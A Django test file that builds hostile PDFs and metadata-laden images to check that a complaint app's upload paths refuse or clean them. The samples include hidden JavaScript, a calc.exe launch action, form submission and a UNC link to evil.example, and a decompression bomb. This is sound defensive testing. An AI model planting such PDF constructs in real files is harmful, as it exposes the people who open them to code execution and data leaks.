"""Uploaded files from the attacker's side: PDFs with active content, images carrying
metadata, long names, and the spool folder a killed request leaves files in.

Every PDF here is made by the test (pikepdf, or bytes written by hand with a correct
cross-reference table where a parser-independent form is the point). Each one is sent
through the real upload paths: the draft service (``drafts.draft_file_add``), the filing
page's upload view through Django's test client, and the same view through a real HTTP
server (``live_server``) with ``requests``."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import textwrap
import time
import zlib
from pathlib import Path

import pikepdf
import pytest
import requests
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from hejie.complaints import drafts, pdfscan
from hejie.complaints.evidence import inspect_upload, upload_name
from hejie.complaints.models import DraftFile
from hejie.core.errors import UnsupportedMedia
from hejie.core.uploads import upload_temp_clean

# --------------------------------------------------------------------------- building PDFs


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _page_pdf() -> pikepdf.Pdf:
    """A one-page PDF with a line of text, as a receipt exported from a till would be."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    content = pdf.make_stream(b"BT /F1 18 Tf 72 720 Td (Receipt No. 1024  Total 38.00) Tj ET")
    page = pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=[0, 0, 595, 842], Contents=content,
                                   Resources=Dictionary(Font=Dictionary(F1=font))))
    pdf.pages.append(page)
    return pdf


def _with_link(action: Dictionary, *, subtype: Name = Name.Link, **extra) -> bytes:
    pdf = _page_pdf()
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[72, 600, 300, 640],
                                         A=action, **extra))
    pdf.pages[0].Annots = pdf.make_indirect(Array([annot]))
    return _save(pdf)


def _raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF written byte by byte (objects numbered from 1) with a correct xref table:
    the parser reads it as written, so the escapes in it reach the check untouched."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


_RAW_PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def names_tree_javascript() -> bytes:
    pdf = _page_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return _save(pdf)


def escaped_name_javascript() -> bytes:
    return _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_RAW_PAGES,
                    b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def js_after_newline() -> bytes:
    return _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_RAW_PAGES,
                    b"<< /S /JavaScript /JS\n(app.alert\\(1\\)) >>".replace(b"/JavaScript", b"/Java#53cript"))


def action_in_object_stream() -> bytes:
    pdf = _page_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    data = _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in data and b"/JS" not in data  # a byte search sees nothing
    return data


def page_additional_action() -> bytes:
    pdf = _page_pdf()  # even a harmless-looking jump, run by itself when the page opens
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    return _save(pdf)


def open_action_javascript() -> bytes:
    pdf = _page_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"this.print({bUI:false});"))
    return _save(pdf)


def launch_action() -> bytes:
    return _with_link(Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))


def embedded_file() -> bytes:
    pdf = _page_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program")
    return _save(pdf)


def file_attachment_annotation() -> bytes:
    pdf = _page_pdf()
    stream = pdf.make_stream(b"secret payload", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=stream))
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec))
    pdf.pages[0].Annots = Array([annot])
    return _save(pdf)


def xfa_form() -> bytes:
    pdf = _page_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def rich_media() -> bytes:
    pdf = _page_pdf()
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 200, 200],
                                         RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))))
    pdf.pages[0].Annots = Array([annot])
    return _save(pdf)


def submit_form() -> bytes:
    return _with_link(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/x")),
                                 Flags=4))


def import_data() -> bytes:
    return _with_link(Dictionary(S=Name.ImportData, F=String("data.fdf")))


def goto_other_file() -> bytes:
    return _with_link(Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])))


def goto_embedded() -> bytes:
    return _with_link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf")), D=Array([0, Name.Fit])))


def named_menu_action() -> bytes:
    return _with_link(Dictionary(S=Name.Named, N=Name("/AcroSendMail:SendMail")))


def hidden_object_outside_xref() -> bytes:
    """An object the cross-reference table does not list (the parser following the table
    never sees it; a viewer that rebuilds the table would)."""
    data = _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *_RAW_PAGES)
    head, tail = data.split(b"xref\n", 1)
    return head + b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" + b"xref\n" + tail


def js_in_widget_keystroke() -> bytes:
    pdf = _page_pdf()
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"),
                                          Rect=[72, 500, 200, 520],
                                          AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc=1")))))
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def encrypted_with_password() -> bytes:
    return _save(_page_pdf(), encryption=pikepdf.Encryption(user="1234", owner="owner", R=6))


def encrypted_without_password() -> bytes:
    return _save(_page_pdf(), encryption=pikepdf.Encryption(user="", owner="owner", R=4))


def truncated() -> bytes:
    data = _save(_page_pdf())
    return data[: len(data) // 2]


def garbage() -> bytes:
    return b"%PDF-1.7\n" + zlib.compress(b"not a pdf at all " * 200) + b"\n%%EOF\n"


def expanding_object_stream(megabytes: int = 300) -> bytes:
    """A 300 KB file whose compressed object stream holds a string of 300 MB of spaces,
    written chunk by chunk (the test never holds the expanded string), with an xref stream."""
    comp = zlib.compressobj(9)
    header = b"4 0 "
    parts = [comp.compress(header + b"(")]
    block = b" " * (1024 * 1024)
    parts += [comp.compress(block) for _ in range(megabytes)]
    parts += [comp.compress(b")"), comp.flush()]
    objstm = b"".join(parts)
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in ((1, b"<< /Type /Catalog /Pages 2 0 R /Big 4 0 R >>"), *enumerate(_RAW_PAGES, start=2),
                         (5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                          % (len(header), len(objstm)) + objstm + b"\nendstream")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3)]
    rows += [b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00"]  # object 4: the first in object stream 5
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (5, 6)]
    table = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table) + table
            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
    return bytes(out)


def no_pages() -> bytes:
    return _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")


# (builder, error code, the reason the refusal names in its fields)
REFUSED = [
    (names_tree_javascript, "pdf_active_content", "javascript"),
    (escaped_name_javascript, "pdf_active_content", "javascript"),
    (js_after_newline, "pdf_active_content", "javascript"),
    (action_in_object_stream, "pdf_active_content", "javascript"),
    (page_additional_action, "pdf_active_content", "auto_action"),
    (open_action_javascript, "pdf_active_content", "javascript"),
    (launch_action, "pdf_active_content", "launch"),
    (embedded_file, "pdf_active_content", "embedded_file"),
    (file_attachment_annotation, "pdf_active_content", "embedded_file"),
    (xfa_form, "pdf_active_content", "xfa"),
    (rich_media, "pdf_active_content", "rich_media"),
    (submit_form, "pdf_active_content", "form_data"),
    (import_data, "pdf_active_content", "form_data"),
    (goto_other_file, "pdf_active_content", "other_file"),
    (goto_embedded, "pdf_active_content", "other_file"),
    (named_menu_action, "pdf_active_content", "action"),
    (hidden_object_outside_xref, "pdf_active_content", "javascript"),
    (js_in_widget_keystroke, "pdf_active_content", "javascript"),
    (encrypted_with_password, "pdf_encrypted", "encrypted pdf"),
    (encrypted_without_password, "pdf_encrypted", "encrypted pdf"),
    (truncated, "pdf_broken", "broken pdf"),
    (garbage, "pdf_broken", "broken pdf"),
    (no_pages, "pdf_broken", "broken pdf"),
]


def plain_page() -> bytes:
    return _save(_page_pdf())


def uri_link() -> bytes:
    """Links to web pages are fine: a viewer asks before it opens one, and receipts carry them."""
    return _with_link(Dictionary(S=Name.URI, URI=String("https://www.12315.cn/")))


def opens_at_first_page() -> bytes:
    pdf = _page_pdf()  # what many exporters write: a destination, and a jump within the file
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    outline = pdf.make_indirect(Dictionary(Title=String("Page 1"), A=Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Dictionary(S=Name.Named, N=Name.NextPage))))
    pdf.Root.Outlines = Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
    return _save(pdf)


def tagged_and_compressed() -> bytes:
    pdf = _page_pdf()  # /S in a structure element is not an action
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(S=Name.P, Pg=pdf.pages[0].obj))
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


ACCEPTED = [plain_page, uri_link, opens_at_first_page, tagged_and_compressed]


def test_the_corpus_is_large_enough_and_each_file_is_a_pdf():
    assert len(REFUSED) >= 15
    for build, _code, _reason in REFUSED:
        assert build().startswith(b"%PDF-")


# --------------------------------------------------------------------------- the draft service


@pytest.mark.django_db
@pytest.mark.parametrize(("build", "code", "reason"), REFUSED, ids=[b.__name__ for b, _, _ in REFUSED])
def test_the_draft_service_refuses_active_encrypted_and_broken_pdfs(build, code, reason, consumer, settings,
                                                                    tmp_path):
    settings.MEDIA_ROOT = tmp_path
    name = f"{build.__name__}.pdf"
    with pytest.raises(UnsupportedMedia) as refused:
        drafts.draft_file_add(consumer=consumer, name=name, data=build())
    assert refused.value.code == code and refused.value.status == 415
    assert reason in refused.value.fields["file"]
    assert name in refused.value.message  # the message names the file
    assert not DraftFile.objects.exists() and not any(p.is_file() for p in tmp_path.rglob("*"))


@pytest.mark.django_db
@pytest.mark.parametrize("build", ACCEPTED, ids=[b.__name__ for b in ACCEPTED])
def test_the_draft_service_keeps_clean_pdfs_as_sent(build, consumer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    data = build()
    item = drafts.draft_file_add(consumer=consumer, name="发票.pdf", data=data)
    assert item.kind == "pdf"
    with default_storage.open(item.file.name) as stored:
        assert stored.read() == data  # refused or kept whole: never rewritten


def test_refusals_are_in_english_for_an_english_reader():
    from django.utils import translation

    with translation.override("en"):
        with pytest.raises(UnsupportedMedia) as refused:
            inspect_upload("invoice.pdf", names_tree_javascript())
        assert refused.value.message == ('The PDF "invoice.pdf" contains JavaScript and cannot be uploaded. '
                                         "Print it to a new PDF, or upload a screenshot of it.")
        with pytest.raises(UnsupportedMedia) as refused:
            inspect_upload("locked.pdf", encrypted_with_password())
        assert "locked.pdf" in refused.value.message and "password" in refused.value.message
    with pytest.raises(UnsupportedMedia) as refused:
        inspect_upload("发票.pdf", launch_action())
    assert refused.value.message.startswith("PDF文件“发票.pdf”含有启动程序的动作，不能上传。")


def test_a_check_that_runs_out_of_its_limits_fails_closed(settings):
    """The parser runs in a process of its own under a memory and CPU limit: when that process
    dies of its limits, the upload is refused as too complex to check, never let through."""
    settings.HEJIE_PDF_CHECK_SECONDS = 0  # no time at all: the check never gives a verdict
    with pytest.raises(UnsupportedMedia) as refused:
        inspect_upload("大.pdf", plain_page())
    assert refused.value.code == "pdf_too_complex" and "大.pdf" in refused.value.message


def test_a_pdf_that_expands_to_hundreds_of_megabytes_does_not_grow_the_web_process(settings):
    """A 300 KB file whose object stream expands to 300 MB: whatever the checker makes of it (qpdf
    may never expand it; under load the CPU limit may end the check first), the web process holds
    only the file, and the answer comes within seconds."""
    import resource

    data = expanding_object_stream()
    assert len(data) < 400_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    try:
        inspect_upload("大.pdf", data)
    except UnsupportedMedia as refused:
        assert refused.code == "pdf_too_complex"
    assert time.monotonic() - started < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KB: nothing expanded here


def test_the_checker_is_a_script_without_django():
    """pdfscan.py runs with ``python -I`` by path: it must import nothing of Django or Hejie."""
    import ast

    tree = ast.parse(Path(pdfscan.__file__).read_text())
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    imported |= {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
    assert imported == {"__future__", "io", "json", "re", "resource", "sys", "pikepdf"}
    assert pdfscan.scan(plain_page()) == {"verdict": "ok", "reasons": []}


# --------------------------------------------------------------------------- the upload view


@pytest.fixture
def me(client, consumer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "zh-CN,zh;q=0.9"
    client.force_login(consumer)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize(("build", "code", "reason"), REFUSED, ids=[b.__name__ for b, _, _ in REFUSED])
def test_the_upload_page_refuses_each_file_and_names_it(build, code, reason, me):
    name = f"{build.__name__}.pdf"
    response = me.post("/file/evidence/", {"files": [SimpleUploadedFile(name, build(), "application/pdf")]},
                       headers={"X-Requested-With": "XMLHttpRequest"})
    assert response.status_code == 415
    body = response.json()
    assert body["files"] == [] and body["errors"][0]["name"] == name and name in body["errors"][0]["message"]
    assert not DraftFile.objects.exists()


@pytest.mark.django_db
def test_the_upload_page_keeps_clean_pdfs_beside_a_refused_one(me):
    response = me.post("/file/evidence/", {"files": [
        *(SimpleUploadedFile(f"{b.__name__}.pdf", b(), "application/pdf") for b in ACCEPTED),
        SimpleUploadedFile("evil.pdf", action_in_object_stream(), "application/pdf")]})
    assert response.status_code == 415
    page = response.content.decode()
    assert "<strong>evil.pdf</strong>：PDF文件“evil.pdf”含有脚本（JavaScript），不能上传。" in page
    assert sorted(DraftFile.objects.values_list("original_name", flat=True)) == sorted(
        f"{b.__name__}.pdf" for b in ACCEPTED)


@pytest.mark.django_db(transaction=True)
def test_the_corpus_through_a_real_server(reference_data, live_server, client, consumer, settings, tmp_path):
    """The whole corpus in one multipart request over HTTP to the real server, spooled to
    disk (a tiny in-memory limit) in the upload folder, which is empty again afterwards."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 100
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "spool")
    os.mkdir(settings.FILE_UPLOAD_TEMP_DIR)
    client.force_login(consumer)
    session = requests.Session()
    session.cookies.set("sessionid", client.cookies["sessionid"].value)
    session.get(live_server.url + "/file/evidence/", timeout=10)  # the CSRF cookie
    token = session.cookies["csrftoken"]
    uploads = [("files", (f"{b.__name__}.pdf", b(), "application/pdf")) for b, _, _ in REFUSED]
    uploads += [("files", (f"{b.__name__}.pdf", b(), "application/pdf")) for b in ACCEPTED]
    response = session.post(live_server.url + "/file/evidence/", files=uploads, timeout=60,
                            headers={"X-CSRFToken": token, "X-Requested-With": "XMLHttpRequest",
                                     "Referer": live_server.url + "/file/evidence/"})
    assert response.status_code == 415
    body = response.json()
    assert [e["name"] for e in body["errors"]] == [f"{b.__name__}.pdf" for b, _, _ in REFUSED]
    assert sorted(f["name"] for f in body["files"]) == sorted(f"{b.__name__}.pdf" for b in ACCEPTED)
    for _ in range(50):  # the server closes the request's files once the answer has gone out
        if not os.listdir(settings.FILE_UPLOAD_TEMP_DIR):
            break
        time.sleep(0.1)
    assert os.listdir(settings.FILE_UPLOAD_TEMP_DIR) == []


# --------------------------------------------------------------------------- image metadata

MARK = b"HEJIE-SECRET-MARK"


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = MARK.decode()  # Make
    exif[0x8825] = {1: "N", 2: (30.0, 35.0, 0.0), 3: "E", 4: (114.0, 17.0, 0.0)}  # GPS: Wuhan
    return exif


def _xmp() -> bytes:
    return (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="' + MARK + b'"/>'
            b"</rdf:RDF></x:xmpmeta>")


def _icc() -> bytes:
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    data = bytearray(profile.tobytes())
    return bytes(data) + MARK  # a real profile, with the mark riding at its end


def jpeg_everything() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG", exif=_exif(), comment=MARK, xmp=_xmp(),
                                                   icc_profile=_icc())
    return out.getvalue()


def jpeg_raw_segments() -> bytes:
    """COM and APP segments inserted by hand (several COM segments, an APP13 Photoshop block)."""
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 200, 10)).save(out, "JPEG")
    data = out.getvalue()

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body

    extra = (segment(0xFE, MARK) + segment(0xFE, b"second " + MARK) + segment(0xED, b"Photoshop 3.0\x00" + MARK)
             + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + _xmp()))
    return data[:2] + extra + data[2:]


def png_everything() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARK.decode())
    info.add_text("Author", MARK.decode(), zip=True)  # zTXt
    info.add_itxt("Description", MARK.decode(), lang="zh", tkey="说明")  # iTXt
    info.add_itxt("XML:com.adobe.xmp", _xmp().decode())
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 255, 128)).save(out, "PNG", pnginfo=info, exif=_exif(), icc_profile=_icc())
    return out.getvalue()


def png_palette_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARK.decode())
    out = io.BytesIO()
    img = Image.new("P", (20, 20), 0)
    img.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0])
    img.putpixel((5, 5), 1)
    img.save(out, "PNG", pnginfo=info, transparency=0)
    return out.getvalue()


def gif_comment() -> bytes:
    out = io.BytesIO()
    Image.new("P", (20, 20), 1).save(out, "GIF", comment=MARK)
    return out.getvalue()


def gif_comment_by_hand() -> bytes:
    """A comment extension (0x21 0xFE) inserted before the image, and a second one after it."""
    out = io.BytesIO()
    Image.new("P", (16, 16), 2).save(out, "GIF")
    data = out.getvalue()
    comment = b"\x21\xfe" + bytes([len(MARK)]) + MARK + b"\x00"
    flags = data[10]
    start = 13 + (3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0)  # after the header and global palette
    assert data[-1:] == b"\x3b"  # the trailer
    return data[:start] + comment + data[start:-1] + comment + data[-1:]


def webp_everything() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (9, 9, 9)).save(out, "WEBP", exif=_exif(), xmp=_xmp(), icc_profile=_icc())
    return out.getvalue()


IMAGES = [jpeg_everything, jpeg_raw_segments, png_everything, png_palette_with_text, gif_comment,
          gif_comment_by_hand, webp_everything]
EXT = {"jpeg": "jpg", "png": "png", "gif": "gif", "webp": "webp"}


@pytest.mark.django_db
@pytest.mark.parametrize("build", IMAGES, ids=[b.__name__ for b in IMAGES])
def test_no_metadata_survives_the_re_encode(build, me):
    data = build()
    assert MARK in data  # the crafted file does carry the mark
    with Image.open(io.BytesIO(data)) as original:
        kind = original.format.lower()
        size = original.size
    name = f"{build.__name__}.{EXT[kind]}"
    response = me.post("/file/evidence/", {"files": [SimpleUploadedFile(name, data)]})
    assert response.status_code == 302
    item = DraftFile.objects.get(original_name=name)
    with default_storage.open(item.file.name) as f:  # the stored bytes, through the storage API
        stored = f.read()
    assert MARK not in stored
    with Image.open(io.BytesIO(stored)) as kept:
        assert kept.format.lower() == kind and kept.size == size  # still the same picture
        assert not kept.getexif() and "icc_profile" not in kept.info and "comment" not in kept.info
        assert "xmp" not in kept.info and "XML:com.adobe.xmp" not in kept.info


@pytest.mark.django_db
def test_a_palette_png_keeps_its_transparency(consumer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    data = png_palette_with_text()
    with Image.open(io.BytesIO(data)) as original:
        assert original.convert("RGBA").getpixel((0, 0))[3] == 0
    item = drafts.draft_file_add(consumer=consumer, name="t.png", data=data)
    with default_storage.open(item.file.name) as f, Image.open(f) as kept:
        assert kept.mode == "P" and kept.convert("RGBA").getpixel((0, 0))[3] == 0  # still see-through
        assert kept.convert("RGBA").getpixel((5, 5)) == (255, 0, 0, 255)


# --------------------------------------------------------------------------- long names


def test_a_long_chinese_name_keeps_its_extension():
    long = "消费者在武汉市某商场购买商品后发现质量问题的购物小票照片" * 12  # 348 characters
    name = upload_name(long[:300] + ".jpg")
    assert len(name) == 200 and name.endswith(".jpg") and name.startswith("消费者在武汉市")
    assert upload_name("C:\\Users\\me\\" + "票" * 300 + ".PDF").endswith("票.PDF")
    assert len(upload_name("x" * 300)) == 200  # no extension: cut as it is
    assert upload_name("a." + "b" * 300)[:2] == "a." and len(upload_name("a." + "b" * 300)) == 200  # not a real one
    assert upload_name("  ") == "upload" and upload_name(None) == "upload"


@pytest.mark.django_db
def test_a_long_name_uploaded_keeps_its_extension(me):
    name = "购" * 300 + ".pdf"
    response = me.post("/file/evidence/", {"files": [SimpleUploadedFile(name, plain_page(), "application/pdf")]})
    assert response.status_code == 302
    item = DraftFile.objects.get()
    assert item.original_name == "购" * 196 + ".pdf" and item.kind == "pdf"
    served = me.get(f"/file/evidence/{item.pk}/")
    assert served.status_code == 200 and ".pdf" in served["Content-Disposition"]


# --------------------------------------------------------------------------- the spool folder


def _aged(path: Path, seconds: float) -> None:
    then = time.time() - seconds
    os.utime(path, (then, then))


def test_the_clean_deletes_only_old_plain_files(settings, tmp_path):
    spool = tmp_path / "spool"
    settings.FILE_UPLOAD_TEMP_DIR = str(spool)
    assert upload_temp_clean() == 0 and spool.is_dir()  # made on first use
    old, fresh, folder = spool / "tmpa.upload.pdf", spool / "tmpb.upload.jpg", spool / "sub"
    old.write_bytes(b"x")
    fresh.write_bytes(b"y")
    folder.mkdir()
    _aged(old, 3601)
    _aged(folder, 7200)
    assert upload_temp_clean() == 1
    assert not old.exists() and fresh.exists() and folder.is_dir()


def test_the_spool_folder_is_hejies_own_under_the_data_folder():
    from django.conf import settings

    assert Path(settings.FILE_UPLOAD_TEMP_DIR) == Path(settings.MEDIA_ROOT).parent / "upload-tmp"
    assert Path(settings.FILE_UPLOAD_TEMP_DIR).is_dir()  # made when the app started


@pytest.mark.django_db
def test_the_draft_purge_cleans_the_spool_folder(settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    left = tmp_path / "tmpzz.upload.png"
    left.write_bytes(b"left by a killed request")
    _aged(left, 2 * 3600)
    out = io.StringIO()
    call_command("drafts_purge", stdout=out)
    assert not left.exists() and "deleted 1 spooled upload(s)" in out.getvalue()


def _python(code: str, data_dir: Path, **kwargs) -> subprocess.CompletedProcess:
    env = {**os.environ, "HEJIE_DATA_DIR": str(data_dir), "DJANGO_SETTINGS_MODULE": "hejie.settings"}
    env.pop("DATABASE_URL", None)
    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], env=env, capture_output=True, text=True,  # noqa: S603  (our own code)
                          timeout=120, check=False, **kwargs)


def test_a_killed_request_leaves_a_spooled_file_that_the_next_start_deletes(tmp_path):
    """A process spools an upload the way Django does for a big request body, then is killed
    (SIGKILL: nothing of its own runs): the file stays. The next process to start removes it
    once it is an hour old, and leaves a younger one (another process's request) alone."""
    killed = _python("""
        import os, signal, sys
        import django
        django.setup()
        from django.core.files.uploadhandler import TemporaryFileUploadHandler
        handler = TemporaryFileUploadHandler()
        handler.new_file("files", "收据.pdf", "application/pdf", 5_000_000)
        handler.receive_data_chunk(b"%PDF-1.7 " * 100_000, 0)
        print(handler.file.temporary_file_path(), flush=True)
        os.kill(os.getpid(), signal.SIGKILL)
    """, tmp_path)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    left = Path(killed.stdout.strip())
    assert left.parent == tmp_path / "upload-tmp" and left.stat().st_size == 900_000
    young = left.parent / "tmp-young.upload.jpg"
    young.write_bytes(b"a request still arriving")

    started = _python("import django; django.setup()", tmp_path)  # not an hour yet: kept
    assert started.returncode == 0, started.stderr
    assert left.exists()
    _aged(left, 3700)
    started = _python("import django; django.setup()", tmp_path)
    assert started.returncode == 0, started.stderr
    assert not left.exists() and young.exists()
